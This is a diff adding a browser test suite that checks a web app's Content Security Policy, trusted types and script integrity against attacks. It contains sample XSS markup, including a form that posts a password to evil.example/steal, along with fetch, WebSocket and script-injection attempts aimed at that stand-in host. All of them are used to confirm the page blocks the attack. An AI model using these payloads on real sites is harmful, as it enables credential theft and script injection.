@@ -1,0 +1,367 @@
+import { createHash } from 'node:crypto';
+import type { Page, Request } from 'playwright-core';
+import * as assert from 'uvu/assert';
+import { buildElsewhere, readDist } from '../build/built-elsewhere';
+import type { Sandbox } from '../sandbox/sandbox';
+import { browserSuite, type Stage } from './chromium';
+import { flip, signIn, signOut } from './player-steps';
+
+const { test, run } = browserSuite('the page defends itself', '127.0.0.72');
+
+const dist = await readDist(process.env.DIST ?? 'dist');
+const html = [...dist].filter(([file]) => file.endsWith('.html'));
+const hashOf = (text: string) => `sha256-${createHash('sha256').update(text, 'latin1').digest('base64')}`;
+
+/** The policy of a page as directive and sources. */
+function policyIn(text: string): ReadonlyMap<string, readonly string[]> {
+  const [, policy = ''] = text.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/) ?? [];
+  const directives = policy.split(';').map((one) => one.trim().split(/\s+/));
+  return new Map(directives.map(([name = '', ...sources]) => [name, sources]));
+}
+
+test('every HTML file has the policy before anything it rules over', async () => {
+  assert.is(html.length, 13, 'eleven routes, the root and 404');
+  for (const [file, text] of html) {
+    const policy = policyIn(text);
+    for (const [directive, sources] of [
+      ['default-src', `'none'`],
+      ['form-action', `'none'`],
+      ['base-uri', `'none'`],
+      ['object-src', `'none'`],
+      ['require-trusted-types-for', `'script'`],
+      ['trusted-types', 'service-worker'],
+      ['connect-src', `'self' ws://*:8001 wss://*:8001`],
+    ] as const) {
+      assert.is(policy.get(directive)?.join(' '), sources, `${file} ${directive}`);
+    }
+    for (const [directive, sources] of policy) {
+      assert.not.match(sources.join(' '), /unsafe|strict-dynamic|https?:/, `${file} ${directive}`);
+    }
+    const beforePolicy = text.slice(0, text.indexOf('http-equiv="Content-Security-Policy"'));
+    assert.not.match(beforePolicy, /<(script|style|link|base|body)/, file);
+  }
+});
+
+test('each inline part is allowed by its hash, and none needs more', async () => {
+  for (const [file, text] of html) {
+    const policy = policyIn(text);
+    const hashesOf = (directive: string) => (policy.get(directive) ?? []).filter((source) => source.includes('sha256'));
+    for (const [directive, tag] of [
+      ['script-src', 'script'],
+      ['style-src', 'style'],
+    ] as const) {
+      const inline = [...text.matchAll(new RegExp(`<${tag}(?![^>]* src=)[^>]*>(.*?)</${tag}>`, 'gs'))];
+      const hashes = inline.map(([, content = '']) => `'${hashOf(content)}'`);
+      assert.equal(hashes.sort(), hashesOf(directive).sort(), `${file} ${tag}`);
+    }
+    assert.not.match(text, /<[^>]+ (on\w+|style)=/i, file);
+    assert.not.match(text, /javascript:/i, file);
+  }
+});
+
+test('with an API of its own a page connects to that and its socket, and to nothing else', async () => {
+  const env = { PATH: process.env.PATH, API_ORIGIN: 'https://api.example.com', REFERRAL_KEY: 'a passphrase' };
+  const built = await readDist(await buildElsewhere('own-api', env));
+  for (const [file, text] of built) {
+    if (!file.endsWith('.html')) continue;
+    assert.equal(
+      policyIn(text).get('connect-src'),
+      ['https://api.example.com', 'wss://api.example.com:8001'],
+      `${file} connect-src`,
+    );
+  }
+});
+
+test('every script and chunk has its integrity, in the page and in the import map', async () => {
+  const chunks = [...dist].filter(([file]) => file.startsWith('assets/') && file.endsWith('.js'));
+  const expected = Object.fromEntries(chunks.map(([file, text]) => [`/${file}`, hashOf(text)]));
+  for (const [file, text] of html) {
+    const [, map = '{}'] = text.match(/<script type="importmap">(.*?)<\/script>/) ?? [];
+    assert.equal(JSON.parse(map).integrity, expected, `${file} import map`);
+    const tags = [...text.matchAll(/<(?:script|link)\b[^>]*(?: src| rel="modulepreload" href)="([^"]+)"[^>]*>/g)];
+    assert.ok(tags.length >= 2, file);
+    for (const [tag, address = ''] of tags)
+      assert.ok(tag.includes(`integrity="${expected[address]}"`), `${file} ${tag}`);
+  }
+});
+
+/** A page whose violations are wanted: they are kept here instead of failing the test. */
+async function attacked(
+  { browser, sandbox }: Stage & { sandbox: Sandbox },
+  scene: (page: Page) => Promise<void>,
+  serviceWorkers: 'allow' | 'block' = 'block',
+): Promise<void> {
+  const context = await browser.newContext({ baseURL: sandbox.origin, serviceWorkers });
+  try {
+    const page = await context.newPage();
+    page.setDefaultTimeout(10_000);
+    await page.addInitScript(() => {
+      const kept = Object.assign(window, { violations: [] as string[], ran: [] as string[] });
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+        kept.violations.push(effectiveDirective);
+      });
+    });
+    const abroad: Request[] = [];
+    page.on('request', (request) => {
+      if (new URL(request.url()).hostname === 'evil.example') abroad.push(request);
+    });
+    await scene(page);
+    const sent = abroad.filter((request) => request.failure()?.errorText !== 'csp').map((request) => request.url());
+    assert.equal(sent, [], 'nothing has left for another host');
+  } finally {
+    await context.close();
+  }
+}
+
+interface Kept {
+  readonly violations: string[];
+  readonly ran: string[];
+}
+const keptIn = (page: Page) =>
+  page.evaluate(() => {
+    const { violations, ran } = window as unknown as Kept;
+    return { violations, ran };
+  });
+
+const INJECTED = `
+<base href="https://evil.example/">
+<script>ran.push('inline script')</script>
+<script src="https://evil.example/a.js"></script>
+<img src="/none.png" onerror="ran.push('inline handler')">
+<img src="https://evil.example/pixel.png">
+<style>body { display: none }</style>
+<object data="https://evil.example/o"></object>
+<iframe src="https://evil.example/frame"></iframe>
+<a id="evil-link" href="javascript:ran.push('javascript link')">A link</a>
+<form id="evil-form" action="https://evil.example/steal" method="post"><input name="password" value="x"></form>
+</body>`;
+
+test('markup injected into the page does nothing', async (stage) => {
+  await attacked(stage, async (page) => {
+    await page.route('**/login', async (route) => {
+      const response = await route.fetch();
+      await route.fulfill({ response, body: (await response.text()).replace('</body>', INJECTED) });
+    });
+    await page.goto('/login');
+    await page.locator('#evil-link').click();
+    await page.evaluate(() => document.querySelector<HTMLFormElement>('#evil-form')?.submit());
+    await page.waitForTimeout(300);
+    const { violations, ran } = await keptIn(page);
+    assert.equal(ran, []);
+    for (const directive of [
+      'base-uri',
+      'script-src-elem',
+      'script-src-attr',
+      'img-src',
+      'style-src-elem',
+      'object-src',
+      'frame-src',
+      'form-action',
+    ]) {
+      assert.ok(violations.includes(directive), `${directive} is among ${violations.join(' ')}`);
+    }
+    assert.is(page.url(), `${stage.sandbox.origin}/login`);
+    assert.is(await page.evaluate(() => document.baseURI), `${stage.sandbox.origin}/login`);
+  });
+});
+
+test('a script that got in makes no code of text, and reaches no other host', async (stage) => {
+  await attacked(
+    stage,
+    async (page) => {
+      await page.goto('/login');
+      // A task of its own: what the test itself runs is above the policy.
+      const outcomes = await page.evaluate(async () => {
+        const { ran } = window as unknown as Kept;
+        const sink = document.createElement('div');
+        document.body.append(sink);
+        const script = () => document.createElement('script');
+        const opened = (target: EventTarget) =>
+          new Promise((resolve, reject) => {
+            target.addEventListener('open', resolve);
+            target.addEventListener('error', () => reject(new Error('refused')));
+          });
+        const attempts: Record<string, () => unknown> = {
+          eval: () => Reflect.get(window, 'eval')('ran.push("eval")'),
+          'new Function': () => Reflect.construct(Function, ['ran.push("Function")'])(),
+          timeout: () => setTimeout('ran.push("timeout")'),
+          innerHTML: () => Object.assign(sink, { innerHTML: '<b>injected</b>' }),
+          adjacent: () => sink.insertAdjacentHTML('beforeend', '<b>injected</b>'),
+          write: () => document.write('<b>injected</b>'),
+          srcdoc: () => document.createElement('iframe').setAttribute('srcdoc', '<b>injected</b>'),
+          'script text': () => document.head.append(Object.assign(script(), { text: 'ran.push("script text")' })),
+          'script address': () => document.head.append(Object.assign(script(), { src: '/assets/any.js' })),
+          worker: () => new Worker('/assets/any.js'),
+          'service worker': () => navigator.serviceWorker.register('/evil.js'),
+          import: () => import(String('https://evil.example/a.js')),
+          fetch: () => fetch('https://evil.example/', { method: 'POST', body: 'x', mode: 'no-cors' }),
+          request: () => {
+            const request = new XMLHttpRequest();
+            request.open('POST', 'https://evil.example/', false);
+            request.send('x');
+          },
+          socket: () => opened(new WebSocket('wss://evil.example/')),
+          events: () => opened(new EventSource('https://evil.example/')),
+        };
+        const results: Record<string, string> = {};
+        for (const [name, attempt] of Object.entries(attempts)) {
+          results[name] = await new Promise((resolve) => {
+            setTimeout(async () => {
+              try {
+                await attempt();
+                resolve('done');
+              } catch {
+                resolve('refused');
+              }
+            });
+          });
+        }
+        try {
+          sink.setAttribute('onclick', 'ran.push("handler")');
+        } catch {
+          // A newer browser refuses already here.
+        }
+        sink.click();
+        return { results, injected: sink.innerHTML, ran };
+      });
+      assert.equal(
+        Object.entries(outcomes.results).filter(([, outcome]) => outcome !== 'refused'),
+        [],
+      );
+      assert.equal(outcomes.ran, []);
+      assert.is(outcomes.injected, '');
+    },
+    'allow',
+  );
+});
+
+interface Policies {
+  readonly policies: { readonly name: string; createScriptURL(url: string): unknown }[];
+}
+
+test('the one trusted policy passes the service worker’s own address and nothing else', async ({ phone }) => {
+  const page = await phone();
+  await page.addInitScript(() => {
+    const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(...rest: unknown[]): unknown } };
+    const make = trustedTypes.createPolicy.bind(trustedTypes);
+    const policies: unknown[] = [];
+    Object.assign(window, { policies });
+    trustedTypes.createPolicy = (...rest) => {
+      const made = make(...rest);
+      policies.push(made);
+      return made;
+    };
+  });
+  await page.goto('/login');
+  await page.waitForLoadState('networkidle');
+  const found = await page.evaluate(() => {
+    const { policies } = window as unknown as Policies;
+    const passes = (url: string) => {
+      try {
+        return String(policies[0]?.createScriptURL(url)) === url;
+      } catch {
+        return false;
+      }
+    };
+    const asked = [
+      '/service-worker.js',
+      'service-worker.js',
+      '/service-worker.js?x',
+      '/service-worker.js#x',
+      '//evil.example/service-worker.js',
+      'https://evil.example/service-worker.js',
+      `${location.origin}/service-worker.js`,
+      'data:text/javascript,1',
+      '',
+    ];
+    return { names: policies.map(({ name }) => name), passed: asked.filter(passes) };
+  });
+  assert.equal(found, { names: ['service-worker'], passed: ['/service-worker.js'] });
+});
+
+test('no other trusted policy can be made, nor the same one twice', async (stage) => {
+  await attacked(stage, async (page) => {
+    await page.goto('/login');
+    await page.waitForLoadState('networkidle');
+    const made = await page.evaluate(() => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy(name: string, rules: object): void };
+      };
+      return ['default', 'evil', 'service-worker'].filter((name) => {
+        try {
+          trustedTypes.createPolicy(name, { createScriptURL: (url: string) => url });
+          return true;
+        } catch {
+          return false;
+        }
+      });
+    });
+    assert.equal(made, []);
+  });
+});
+
+/** The scripts that a page of dist names: its core first. */
+const scriptsOf = (file: string) =>
+  [...(dist.get(file) ?? '').matchAll(/(?: src| rel="modulepreload" href)="(\/assets\/[^"]+\.js)"/g)].map(
+    ([, address = '']) => address,
+  );
+
+/** Serves one script with a line added, as a host that has been broken into would. */
+async function tamper(page: Page, address: string): Promise<void> {
+  await page.route(`**${address}`, async (route) => {
+    const response = await route.fetch();
+    await route.fulfill({ response, body: `window.ran.push('tampered');${await response.text()}` });
+  });
+}
+
+test('a script that was changed on its way doesn’t run, whether core, page or loaded later', async (stage) => {
+  for (const address of scriptsOf('login/index.html')) {
+    await attacked(stage, async (page) => {
+      await tamper(page, address);
+      await page.goto('/login');
+      await page.waitForTimeout(500);
+      assert.equal((await keptIn(page)).ran, [], address);
+    });
+  }
+  const later = scriptsOf('wallet/index.html').find((address) => !scriptsOf('dashboard/index.html').includes(address));
+  await attacked(stage, async (page) => {
+    await page.addInitScript((token) => sessionStorage.setItem('authToken', token), stage.sandbox.signIn('asha'));
+    await tamper(page, String(later));
+    await page.goto('/dashboard');
+    await page.getByRole('link', { name: 'Wallet' }).click();
+    await page.getByRole('button', { name: 'Try again' }).waitFor();
+    assert.equal((await keptIn(page)).ran, [], 'loaded later');
+  });
+});
+
+test('nothing on a player’s way breaks the policy', async ({ phone }) => {
+  const page = await phone();
+  await page.goto('/signup?refId=broken');
+  await page.getByText('This invite can’t be read.').waitFor();
+  await page.getByRole('link', { name: 'I have an account' }).click();
+  await page.getByRole('link', { name: 'Forgot password?' }).click();
+  await page.getByRole('link', { name: 'Back to sign-in' }).click();
+  await signIn(page, 'asha');
+  await flip(page);
+  await page.getByText('Verified fair').click();
+  await page.getByRole('button', { name: 'Transactions' }).click();
+  await page.locator('.row').first().waitFor();
+  await page.keyboard.press('Escape');
+  await page.getByRole('button', { name: 'Menu' }).click();
+  await page.getByRole('switch', { name: 'Light theme' }).click();
+  await page.getByRole('link', { name: 'Edit Profile' }).click();
+  for (const name of ['Home', 'Payment', 'Wallet', 'Refer', 'Recharge']) {
+    await page.getByRole('navigation').getByRole('link', { name }).click();
+    await page.locator(`nav [aria-current=page][aria-label=${name}]`).waitFor();
+  }
+  await page.setViewportSize({ width: 1000, height: 800 });
+  await page.getByLabel('Amount to add').fill('100');
+  await page.getByRole('button', { name: 'Recharge', exact: true }).click();
+  await page.getByRole('img', { name: 'QR code' }).waitFor();
+  await page.getByText('has been added to your wallet').waitFor();
+  await signOut(page);
+  await page.goto('/no-such-page');
+  await page.waitForURL('**/login');
+});
+
+run();
